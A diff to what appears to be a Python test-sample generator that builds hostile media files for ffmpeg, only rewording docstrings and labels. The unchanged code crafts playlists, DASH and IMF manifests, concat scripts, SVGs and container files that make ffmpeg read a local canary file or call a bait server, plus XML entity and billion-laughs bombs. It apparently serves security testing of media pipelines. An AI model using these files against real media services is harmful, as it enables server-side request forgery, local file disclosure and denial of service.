@@ -1,5 +1,5 @@
-"""Files that want ffmpeg to open another file, or to call a server: playlists, scripts, references
-and the holes of its history (CVE-2016-1897, CVE-2016-1898, CVE-2017-9993 and their like)."""
+"""Files that try to make ffmpeg open another file or call a server: playlists, scripts, references
+and known vulnerabilities (CVE-2016-1897, CVE-2016-1898, CVE-2017-9993 and similar ones)."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ from tools.hostile.pictures import jpeg
 
 
 def addresses(bait: Bait) -> dict[str, str]:
-    """The same two ends, a server and a file, by every way that ffmpeg knows."""
+    """The same two targets, a server and a file, in every notation that ffmpeg knows."""
     host, canary = bait.address, bait.canary
     return {
         "http": f"http://{host}/x.ts",
@@ -112,8 +112,8 @@ def _scripts(bait: Bait) -> dict[str, tuple[str, str]]:
         "hls-endless.mp4": ("a playlist without an end", "#EXTM3U\n#EXT-X-TARGETDURATION:1\n"
                             + f"#EXTINF:1,\n{url}/x.ts\n" * 5000),
         "hls-bom.mp4": ("a playlist after a byte order mark", "\ufeff" + hls),
-        "hls-crlf.mp4": ("a playlist of DOS", hls.replace("\n", "\r\n")),
-        "hls.png": ("a playlist named like a picture", hls),
+        "hls-crlf.mp4": ("a playlist with DOS line ends", hls.replace("\n", "\r\n")),
+        "hls.png": ("a playlist named like an image", hls),
         "hls.gif": ("a playlist named like a GIF", hls),
         "hls.mkv": ("a playlist named like a Matroska", hls),
         "dash.mp4": ("a DASH manifest", f'<?xml version="1.0"?>{mpd}<BaseURL>{url}/</BaseURL>'
@@ -125,11 +125,11 @@ def _scripts(bait: Bait) -> dict[str, tuple[str, str]]:
                           f"<BaseURL>file://{canary}</BaseURL>{end}"),
         "dash-entity.mp4": ("a DASH manifest with entities", f'<?xml version="1.0"?>{entity}{mpd}'
                             f"<BaseURL>&a;&b;</BaseURL>{adaptation}{end}"),
-        "laughs.mp4": ("a manifest of a thousand million laughs", '<?xml version="1.0"?><!DOCTYPE x ['
+        "laughs.mp4": ("a billion laughs in a manifest", '<?xml version="1.0"?><!DOCTYPE x ['
                        f"{laughs}]>{mpd}<BaseURL>&l9;</BaseURL>{adaptation}{end}"),
         "concat-options.mp4": ("a concat script with options", "ffconcat version 1.0\n"
                                f"file '{canary}'\noption protocol_whitelist http,tcp\n"),
-        "concat-bare.mp4": ("a concat script without its head", f"file '{canary}'\nfile '{url}/x'\n"),
+        "concat-bare.mp4": ("a concat script without its header", f"file '{canary}'\nfile '{url}/x'\n"),
         "concat-self.mp4": ("a concat script of itself", "ffconcat version 1.0\nfile 'clip'\n" * 50),
         "sdp.mp4": ("an SDP", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
                     "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
@@ -147,7 +147,7 @@ def _scripts(bait: Bait) -> dict[str, tuple[str, str]]:
         "imf.mp4": ("an IMF composition", f'<?xml version="1.0"?>{entity}<CompositionPlaylist xmlns='
                     '"http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0e2e0e2e-0000-0000-'
                     "0000-000000000000</Id></CompositionPlaylist>"),
-        "svg.png": ("an SVG with a picture elsewhere", f'<svg {svg} width="100" height="100"><image '
+        "svg.png": ("an SVG with an image on a server", f'<svg {svg} width="100" height="100"><image '
                     f'xlink:href="{url}/x.png" width="9" height="9"/><image href="file://{canary}"/>'
                     "</svg>"),
         "svg-entity.png": ("an SVG with entities", f'<?xml version="1.0"?>{entity}<svg {svg} width="99" '
@@ -166,21 +166,21 @@ def _scripts(bait: Bait) -> dict[str, tuple[str, str]]:
                     f"{canary}\n"),
         "preset.mp4": ("ffmpeg's options", f"-i {url}/x\n-y /tmp/pwned\n"),
         "pattern-%03d.png": ("a name that is a pattern", "no picture"),
-        "image-list.png": ("a list of pictures", f"{canary}\n{url}/x.png\n"),
+        "image-list.png": ("a list of images", f"{canary}\n{url}/x.png\n"),
         "xpm.png": ("an XPM", '/* XPM */\nstatic char *x[] = {"9 9 1 1", "a c #000000"};\n'),
         "m3u-in-text.mp4": ("a playlist after text", "x" * 3000 + "\n" + hls),
     }  # fmt: skip
 
 
 def _dref(reference: bytes) -> bytes:
-    """A QuickTime movie whose samples lie elsewhere."""
+    """A QuickTime movie whose samples are in another file."""
     tables = movie.samples([1000] * 5, 0)
     track = movie.trak(movie.entry(128, 96), tables, dref=reference)
     return movie.ftyp() + movie.box(b"moov", movie.mvhd(), track)
 
 
 def _gab2(playlist: bytes) -> bytes:
-    """An AVI whose subtitles are a playlist: ffmpeg opens them as a file of their own."""
+    """An AVI whose subtitles are a playlist: ffmpeg opens them as a separate file."""
     text = b"GAB2\0" + struct.pack("<H", 2) + struct.pack("<I", 4) + b"a\0\0\0"
     text += struct.pack("<HI", 4, len(playlist)) + playlist
     streams = [riff.video(128, 96, frames=1), riff.subtitles()]
@@ -217,9 +217,9 @@ def _binaries(bait: Bait, bases: Mapping[str, bytes]) -> Iterator[Hostile]:
     script = bytes(16) + struct.pack("<HH", 1, 1) + struct.pack("<H", 3) + "URL".encode("utf-16-le")
     script += struct.pack("<IHH", 0, 0, len(url)) + url.encode("utf-16-le")
     made = {
-        "linked.mkv": ("segments that go on in other files", mkv.matroska(
+        "linked.mkv": ("segments that continue in other files", mkv.matroska(
             [mkv.track(128, 96)], frames, info=linked)),
-        "chapters.mkv": ("chapters that lie in other files", mkv.matroska([mkv.track(128, 96)], frames,
+        "chapters.mkv": ("chapters in other files", mkv.matroska([mkv.track(128, 96)], frames,
             before=mkv.element(mkv.CHAPTERS, mkv.element(mkv.EDITION, ordered)))),
         "playlist-attached.mkv": ("a playlist as attachment", mkv.matroska([mkv.track(128, 96)],
             frames, before=mkv.element(mkv.ATTACHMENTS, mkv.attachment(
@@ -233,16 +233,16 @@ def _binaries(bait: Bait, bases: Mapping[str, bytes]) -> Iterator[Hostile]:
             ))))),
         "polyglot.mp4": ("an MP4 that begins as a playlist", movie.box(b"free", b"\n" + _hls(
             f"{url}/x.ts").encode()) + bases["faststart.mp4"]),
-        "playlist-first.mp4": ("a playlist, and an MP4 behind it", _hls(f"{url}/x.ts").encode()
+        "playlist-first.mp4": ("a playlist, then an MP4", _hls(f"{url}/x.ts").encode()
             + bases["faststart.mp4"]),
-        "playlist-last.mp4": ("an MP4, and a playlist behind it", bases["faststart.mp4"]
+        "playlist-last.mp4": ("an MP4, then a playlist", bases["faststart.mp4"]
             + _hls(f"{url}/x.ts").encode()),
-        "script.asf": ("an ASF with a command to open an address", bases["wmv1.asf"][:30]
+        "script.asf": ("an ASF with a command to open a URL", bases["wmv1.asf"][:30]
             + command + struct.pack("<Q", len(script) + 24) + script + bases["wmv1.asf"][30:]),
-        "flv-redirect.flv": ("an FLV with an address in its data", bases["flv1.flv"][:13] + b"\x12"
+        "flv-redirect.flv": ("an FLV with a URL in its data", bases["flv1.flv"][:13] + b"\x12"
             + struct.pack(">I", len(url) + 3)[1:] + bytes(7) + b"\2" + struct.pack(">H", len(url))
             + url.encode() + struct.pack(">I", len(url) + 14) + bases["flv1.flv"][13:]),
-        "swf.mp4": ("a Flash film", b"FWS\x06" + struct.pack("<I", 200) + url.encode() + bytes(200)),
+        "swf.mp4": ("a Flash movie", b"FWS\x06" + struct.pack("<I", 200) + url.encode() + bytes(200)),
         "disc.mp4": ("a DVD's table", b"DVDVIDEO-VMG" + bytes(2036)),
     }  # fmt: skip
     for name, (why, content) in made.items():
